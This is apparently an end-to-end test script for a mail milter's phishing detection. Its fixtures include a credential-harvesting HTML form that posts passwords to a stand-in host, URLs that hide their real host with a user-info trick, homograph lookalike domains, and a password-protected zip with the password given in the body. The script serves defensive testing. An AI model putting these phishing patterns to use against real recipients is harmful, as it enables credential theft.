#!/bin/bash
# test_links.sh - issue 12, links and forms, end to end: a private
# Postfix, the milter with its sandboxed workers, a private redis-server
# and local DNS data (lib.sh).  The compromised partner mailbox: mail
# from corr.example's usual relay with its aligned DKIM signature, which
# no sender-history rule can see, carrying what the attacker sends.
#
#  H  the link history: three signed messages link to corr.example's
#     own site and to partnerhub.example (learned: link history
#     established).  Benign: the same links again (no link_new_domain).
#     Attack: a link to a new organisation whose anchor text shows the
#     usual portal, behind a user-name trick: held; being held, it did
#     not teach, so the next message to that organisation is still
#     link_new_domain.  Benign: a plain new link (link_new_domain, 2) is
#     delivered, teaches, and the next one is not new any more.
#  K  lookalike link hosts: a first contact linking to a lookalike of a
#     known correspondent (corr.example in Cyrillic letters) and of our
#     own protected domain
#     (0urorg.example): held.  Benign: a first contact linking to an
#     unrelated site.
#  F  a password form in an attached HTML file, from a first contact:
#     link_form_password.  Benign: the partner's own signed HTML mail
#     with a form posting to its own site (no password field).
#  Q  a QR code to a parcel tracker: from the known partner nothing but
#     (at most) a new link organisation; from a first contact, qr_link.
#  Z  an encrypted zip whose password the text gives, from a first
#     contact: archive_password_in_text, held.  Benign: the same from the
#     known partner by its usual road.
# Needs root (private Postfix): otherwise exits 77 (skip), saying why.
set -u
. "${top_srcdir:-$(dirname "$0")/../..}/tests/e2e/lib.sh"
e2e_init
e2e_need_cmd zip
e2e_need_cmd qrencode

M=$E2E_TMP/msg
mkdir -p "$M"
RCPT=bob@rcpt.example
IP_CORR=192.0.2.10;	N_CORR=mx.corr.example
IP_NEW=192.0.2.70;	N_NEW=mx.newcorp.example
IP_ZIP=192.0.2.80;	N_ZIP=mx.zipco.example
IP_QR=192.0.2.90;	N_QR=mx.qrco.example

ZONE=$E2E_TMP/zone
k_corr=$(e2e_key_rsa corr)
{
	cat <<EOF
\$STATIC example
\$STATIC in-addr.arpa
corr.example 300 IN TXT "v=spf1 ip4:$IP_CORR -all"
_dmarc.corr.example 300 IN TXT "v=DMARC1; p=none"
sel._domainkey.corr.example 300 IN TXT $k_corr
newcorp.example 300 IN TXT "v=spf1 ip4:$IP_NEW -all"
_dmarc.newcorp.example 300 IN TXT "v=DMARC1; p=none"
zipco.example 300 IN TXT "v=spf1 ip4:$IP_ZIP -all"
_dmarc.zipco.example 300 IN TXT "v=DMARC1; p=none"
qrco.example 300 IN TXT "v=spf1 ip4:$IP_QR -all"
_dmarc.qrco.example 300 IN TXT "v=DMARC1; p=none"
EOF
	e2e_zone_fcrdns "$IP_CORR $N_CORR" "$IP_NEW $N_NEW" \
	    "$IP_ZIP $N_ZIP" "$IP_QR $N_QR"
} >"$ZONE"

E2E_RW_EXTRA="protected_domains = [ \"ourorg.example\" ];
state_known_refresh_s = 1;
redis_timeout_ms = 1000;
redis_slow_ms = 1000;
link_history_min_messages = 3;"
e2e_start_redis
e2e_write_config "$ZONE"
e2e_start_milter
e2e_start_postfix "$E2E_MILTER_SOCK"

N=0
# mk NAME FROM SUBJECT BODYFILE [SIGNER:KEY]: $M/NAME.eml with the MIME
# body (headers from Content-Type on) in BODYFILE, signed when asked.
mk() {
	local name=$1 from=$2 subj=$3 body=$4 f=$M/$1.0
	N=$((N + 1))
	{
		printf 'From: %s\nTo: %s\nSubject: %s\n' "$from" "$RCPT" "$subj"
		printf 'Date: %s\nMessage-ID: <%s.%s@e2e>\n' \
		    "$(LC_ALL=C date -R)" "$name" "$N"
		printf 'MIME-Version: 1.0\n'
		cat "$body"
	} >"$f"
	if [ -n "${5:-}" ]; then
		e2e_sign_rsa "$f" "${5%%:*}" sel "${5##*:}" >"$M/$name.eml"
	else
		cp "$f" "$M/$name.eml"
	fi
}

# html FILE: a text/html body made of the remaining arguments.
html() {
	local f=$1
	shift
	{
		printf 'Content-Type: text/html; charset=utf-8\n\n'
		printf '<html><body><p>Hello,</p>\n'
		printf '%s\n' "$@"
		printf '<p>Kind regards</p></body></html>\n'
	} >"$f"
}

# Scenario steps (lib.sh): send, has, learn, attack, benign.
send() { e2e_scn_send "$@"; }
has() { e2e_scn_has "$@"; }
learn() { e2e_scn_learn "$@"; }
attack() { e2e_scn_attack "$@"; }
benign() { e2e_scn_benign "$@"; }

# reason NAME RULE: the last message named (or did not name) RULE.
reason() {
	if has "$2"; then e2e_ok "$1: $2 [$VH]"
	else e2e_not_ok "$1: $2" "$VH"; fi
}
no_reason() {
	if has "$2"; then e2e_not_ok "$1: no $2" "$VH"
	else e2e_ok "$1: no $2"; fi
}

CORR=alice@corr.example

# ======== H: the partner's link history ========
html "$M/usual.body" \
    '<a href="https://www.corr.example/news">our news</a>' \
    '<a href="https://portal.partnerhub.example/doc/42">https://portal.partnerhub.example/doc/42</a>'
for i in 1 2 3; do
	mk h$i $CORR "report $i" "$M/usual.body" corr.example:corr
	learn h$i $IP_CORR $N_CORR $CORR
done
mk h_same $CORR "report 4" "$M/usual.body" corr.example:corr
benign h_same $IP_CORR $N_CORR $CORR
no_reason h_same link_new_domain

html "$M/phish.body" \
    '<a href="https://portal.partnerhub.example@files-share.example/doc/42">https://portal.partnerhub.example/doc/42</a>'
mk h_phish $CORR "report 5" "$M/phish.body" corr.example:corr
attack h_phish link_new_domain $IP_CORR $N_CORR $CORR
reason h_phish link_userinfo
reason h_phish link_text_mismatch
# held: files-share.example was not learned
html "$M/plainnew.body" \
    '<a href="https://files-share.example/x">the shared folder</a>'
mk h_after $CORR "report 6" "$M/plainnew.body" corr.example:corr
benign h_after $IP_CORR $N_CORR $CORR
reason h_after link_new_domain
# delivered: now it was learned
mk h_again $CORR "report 7" "$M/plainnew.body" corr.example:corr
benign h_again $IP_CORR $N_CORR $CORR
no_reason h_again link_new_domain
w=$(e2e_redis HGET "${E2E_REDIS_PREFIX}{corr.example}" lm)
if [ "${w:-0}" -ge 5 ]; then
	e2e_ok "the history counted the teaching messages with links (lm=$w)"
else
	e2e_not_ok "lm counts the teaching messages with links" "lm=$w"
fi
e2e_expect_eq "partnerhub.example learned" \
    "$(e2e_redis HEXISTS "${E2E_REDIS_PREFIX}{corr.example}" \
    wpartnerhub.example)" 1

# ======== Q: QR codes ========
# A parcel ticket's code from the known partner: not qr_link (a new
# link organisation for it, at most link_new_domain).  The same code
# from a first contact: qr_link.
qrencode -o "$M/ticket.png" 'https://track.parcel-co.example/t/4711' ||
	e2e_hard_error "qrencode"
qrmsg() {
	{
		printf 'Content-Type: multipart/mixed; boundary="b3"\n\n'
		printf -- '--b3\nContent-Type: text/plain\n\nYour ticket.\n'
		printf -- '--b3\nContent-Type: image/png; name="ticket.png"\n'
		printf 'Content-Transfer-Encoding: base64\n'
		printf 'Content-Disposition: attachment; filename="ticket.png"\n\n'
		base64 "$M/ticket.png"
		printf -- '--b3--\n'
	} >"$1"
}
qrmsg "$M/qr.body"
mk q_known $CORR "your ticket" "$M/qr.body" corr.example:corr
benign q_known $IP_CORR $N_CORR $CORR
no_reason q_known qr_link
mk q_new info@qrco.example "your ticket" "$M/qr.body"
send q_new $IP_QR $N_QR info@qrco.example
reason q_new qr_link

# ======== K: lookalike link hosts ========
# the refresher reads the known correspondents every second
sleep 3
# Cyrillic es and o: the same skeleton as corr.example
html "$M/lk1.body" "<a href=\"https://$(printf '\321\201\320\276')rr.example/invoice\">invoice</a>"
mk k_known info@newcorp.example "invoice" "$M/lk1.body"
attack k_known link_lookalike_known $IP_NEW $N_NEW info@newcorp.example
html "$M/lk2.body" '<a href="https://0urorg.example/login">staff portal</a>'
mk k_ours info@newcorp.example "staff portal" "$M/lk2.body"
attack k_ours link_lookalike_protected $IP_NEW $N_NEW info@newcorp.example
html "$M/lk3.body" '<a href="https://weather.example/today">weather</a>'
mk k_benign info@newcorp.example "weather" "$M/lk3.body"
benign k_benign $IP_NEW $N_NEW info@newcorp.example
no_reason k_benign link_lookalike_known

# ======== F: password forms ========
cat >"$M/form.body" <<'EOF'
Content-Type: multipart/mixed; boundary="b1"

--b1
Content-Type: text/plain

Please find the secure document attached.
--b1
Content-Type: text/html; name="SecureDoc.html"
Content-Disposition: attachment; filename="SecureDoc.html"

<html><body><form method="post" action="https://collect.example.net/p.php">
<input type="email" name="u"><input type="password" name="p"></form></body></html>
--b1--
EOF
mk f_attach info@newcorp.example "secure document" "$M/form.body"
send f_attach $IP_NEW $N_NEW info@newcorp.example
reason f_attach link_form_password
html "$M/form2.body" \
    '<form action="https://www.corr.example/subscribe"><input type="email" name="e"></form>'
mk f_benign $CORR "newsletter" "$M/form2.body" corr.example:corr
benign f_benign $IP_CORR $N_CORR $CORR
no_reason f_benign link_form_password

# ======== Z: an encrypted archive and its password ========
echo "MZ not really a program" >"$M/payload.txt"
(cd "$M" && zip -q -P Xk29ab enc.zip payload.txt)
zipmsg() {
	{
		printf 'Content-Type: multipart/mixed; boundary="b2"\n\n'
		printf -- '--b2\nContent-Type: text/plain\n\n'
		printf 'The documents are attached.\nPassword: Xk29ab\n'
		printf -- '--b2\nContent-Type: application/zip; name="docs.zip"\n'
		printf 'Content-Transfer-Encoding: base64\n'
		printf 'Content-Disposition: attachment; filename="docs.zip"\n\n'
		base64 "$M/enc.zip"
		printf -- '--b2--\n'
	} >"$1"
}
zipmsg "$M/zip.body"
mk z_new info@zipco.example "documents" "$M/zip.body"
attack z_new archive_password_in_text $IP_ZIP $N_ZIP info@zipco.example
mk z_known $CORR "documents" "$M/zip.body" corr.example:corr
send z_known $IP_CORR $N_CORR $CORR
no_reason z_known archive_password_in_text

e2e_summary
